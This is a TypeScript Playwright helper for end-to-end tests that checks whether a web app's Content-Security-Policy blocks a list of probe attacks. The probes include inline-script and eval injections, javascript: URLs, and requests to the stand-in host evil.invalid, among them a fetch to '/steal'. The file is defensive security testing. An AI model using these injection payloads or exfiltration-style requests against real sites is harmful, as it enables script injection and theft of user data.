/**
 * Content-Security-Policy helpers for e2e: record every `securitypolicyviolation` the page reports (installed before
 * any page script runs), and probes that try what the policy forbids. Every probe that would run sets
 * `window.__pwned`; every one that would load something points at `evil.invalid`.
 */

import type { Page } from '@playwright/test'

export interface Violation {
  readonly directive: string
  readonly blocked: string
  readonly sample: string
}

declare global {
  interface Window {
    __cspViolations?: Violation[]
    __pwned?: unknown
  }
}

/** Call before `goto`: the listener is in place before the app's first script. */
export async function recordViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    window.__cspViolations = []
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__cspViolations?.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample })
    })
  })
}

export async function violations(page: Page): Promise<Violation[]> {
  return page.evaluate(() => window.__cspViolations ?? [])
}

/** What each probe did: `threw` is the error name (or null), `ran` whether its payload executed. */
export interface ProbeResult {
  readonly name: string
  readonly threw: string | null
}

/** Where the probe script is served from: the app's own origin, so `script-src 'self'` lets it run as page code. */
export const PROBE_PATH = '/__csp-probe.js'

/**
 * The probe, as page script. It must come from the page's origin rather than from Playwright's evaluate: code that
 * DevTools evaluates is exempt from the page's eval restriction, code the page loaded is not.
 */
const PROBE_SOURCE = String.raw`
(async () => {
  const results = []
  const attempt = async (name, f) => {
    try {
      await f()
      results.push({ name, threw: null })
    } catch (e) {
      results.push({ name, threw: e instanceof Error ? e.name : String(e) })
    }
  }
  await attempt('inline-script', () => {
    const s = document.createElement('script')
    s.textContent = "window.__pwned = 'inline-script'"
    document.head.append(s)
  })
  await attempt('eval', () => eval("window.__pwned = 'eval'"))
  await attempt('new-function', () => new Function("window.__pwned = 'new-function'")())
  // A string timer handler is eval too.
  await attempt('string-timer', () => setTimeout("window.__pwned = 'string-timer'", 0))
  await attempt('handler-attribute', () => {
    const d = document.createElement('div')
    d.setAttribute('onclick', "window.__pwned = 'handler-attribute'")
    document.body.append(d)
    d.click()
    d.remove()
  })
  await attempt('javascript-url', () => {
    const a = document.createElement('a')
    a.href = "javascript:window.__pwned = 'javascript-url'"
    document.body.append(a)
    a.click()
    a.remove()
  })
  await attempt('foreign-script', () => {
    const s = document.createElement('script')
    s.src = 'https://evil.invalid/x.js'
    document.head.append(s)
  })
  await attempt('blob-worker', () => new Worker(URL.createObjectURL(new Blob(["postMessage('pwned')"]))))
  await attempt('fetch-elsewhere', () => fetch('https://evil.invalid/steal'))
  await attempt('websocket-elsewhere', () => new WebSocket('ws://evil.invalid:9/'))
  await attempt('style-element', () => {
    const s = document.createElement('style')
    s.textContent = 'body { background: url(https://evil.invalid/style-element.png) }'
    document.head.append(s)
  })
  await attempt('data-image', () => {
    const i = document.createElement('img')
    i.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='
    document.body.append(i)
  })
  await attempt('object', () => {
    const o = document.createElement('object')
    o.data = 'https://evil.invalid/x.swf'
    document.body.append(o)
  })
  await new Promise((r) => setTimeout(r, 100))
  for (const el of document.querySelectorAll('body > img, body > object')) el.remove()
  window.__probeResults = results
})()
`

/**
 * Serve the probe at PROBE_PATH on the page's origin, load it with a script element, and return what each attempt
 * threw (the error name, or null); the caller reads `window.__pwned` and the recorded violations.
 */
export async function runProbes(page: Page): Promise<ProbeResult[]> {
  await page.route(
    (url) => url.pathname === PROBE_PATH,
    (route) => route.fulfill({ status: 200, contentType: 'text/javascript', body: PROBE_SOURCE }),
  )
  await page.evaluate((src) => {
    const s = document.createElement('script')
    s.src = src
    document.head.append(s)
  }, PROBE_PATH)
  await page.waitForFunction(() => (window as { __probeResults?: unknown }).__probeResults !== undefined)
  return page.evaluate(() => (window as unknown as { __probeResults: ProbeResult[] }).__probeResults)
}

/** The directive each probe must be reported under (Chrome's effectiveDirective names). */
export const EXPECTED_DIRECTIVES: readonly string[] = [
  'script-src-elem', // inline script, javascript: URL, foreign script
  'script-src', // eval, new Function, string timer
  'script-src-attr', // onclick attribute
  'worker-src',
  'connect-src', // fetch, WebSocket
  'style-src-elem',
  'img-src',
  'object-src',
]
